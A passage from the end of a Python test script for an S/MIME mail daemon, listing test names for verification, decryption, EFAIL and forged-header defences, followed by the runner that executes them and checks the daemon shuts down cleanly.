    signed_mail_arrives_byte_for_byte, every_cipher_and_key_is_opened,
    an_expired_key_opens_old_mail, layers_are_undone_from_the_outside_in,
    more_layers_than_the_limit_stay,
    lies_about_type_and_encoding_do_not_matter,
    strip_signature_takes_off_what_is_verified,
    what_is_no_entity_keeps_its_signature,
    plain_mail_only_gets_its_verdict, mail_for_others_is_left_alone,
    a_rule_without_keys_verifies_and_opens_nothing,
    the_bounce_carries_no_more_than_the_header, signers_are_harvested,
    untrusted_signers_are_not_harvested,
    a_certificate_of_several_addresses_is_not_harvested,
    verify_and_decrypt_by_hand,
    smimectl_test_explains_inbound,
    strangers_get_no_report,
    what_cannot_be_made_fit_is_delivered_and_noted,
    undecryptable_mail_arrives_byte_for_byte,
    every_decryption_failure_looks_the_same,
    bad_signature_speaks_of_what_nobody_has_encrypted,
    what_is_refused_is_not_opened,
    a_client_that_fails_often_is_barred_for_a_while,
    mail_of_a_barred_client_waits_where_a_rule_is_strict,
    a_broken_signature_inside_is_answered_as_a_failure_to_decrypt,
    a_broken_signature_inside_counts_as_a_failure_to_decrypt,
    broken_and_unknown_cms_is_never_lost,
    stolen_ciphertext_is_not_opened_for_a_stranger,
    an_added_recipient_does_not_open_others_mail,
    only_the_key_that_opened_the_mail_counts_for_the_next_one,
    any_key_opens_for_everybody_of_its_rule,
    efail_a_changed_first_block_is_not_released,
    efail_direct_exfiltration_a_part_is_left_alone,
    efail_cbc_without_a_signature_is_marked,
    efail_an_injected_header_is_not_released,
    c1_content_inside_a_detached_signature_is_refused,
    c2_one_good_signer_of_two_is_not_enough,
    c3_certificates_alone_are_no_signature, c4_only_our_anchors_are_trusted,
    c5_a_signature_without_signed_attributes_is_refused,
    m1_a_signed_part_says_nothing_about_the_mail,
    m2_a_signed_part_hidden_by_others_says_nothing,
    m3_a_signature_in_a_forwarded_message_is_not_the_mails,
    m4_an_old_signed_mail_wrapped_in_a_new_one_is_not_the_mails,
    a_fragment_is_never_opened,
    a_third_part_or_text_around_makes_it_neutral,
    i1_the_signer_must_be_the_author, i2_from_must_be_one_mailbox,
    i2_a_display_name_is_no_address,
    i3_sender_and_reply_to_do_not_count, u1_forged_fields_are_removed,
    u1_forged_results_are_removed_in_every_spelling,
    u1_look_alikes_of_the_tags_lose_their_brackets,
    u1_forged_fields_without_end_are_refused,
    nothing_is_harvested_from_a_mail_that_is_refused,
    content_fields_without_end_are_not_opened,
    sha1_and_short_keys_are_policy_with_a_setting,
    a_bad_signature_goes_by_its_setting,
    a_signature_that_cannot_be_read_goes_by_the_same,
    a_directory_that_is_down_makes_no_signature_bad,
]


def ends_well(world):
    status = world.stop()
    expect(status == 0, 'the daemon ended with %s' % status)
    expect(not COMPLAINT.search(world.log()), world.log()[-3000:])


def run_inbound(rules, tests, name):
    """Each with one world, whose daemon says nothing odd in the end."""
    tally = Tally(words())
    world = World()
    try:
        world.configure(rules, INBOUND)
        code, _, err = world.ctl('cert', 'import', '--empty', '--store',
                                 'book')
        expect(code == 0, 'no store is made: ' + err)
        world.start(rules, INBOUND)
        for test in tests:
            if tally.wants(test.__name__):
                tally.run(test.__name__, test, world, Maker(world))
        tally.run(name + ' (end)', ends_well, world)
    finally:
        world.close()
    return tally.close()


def main():
    return run_inbound(RULES, TESTS, 'inbound')


if __name__ == '__main__':
    sys.exit(main())
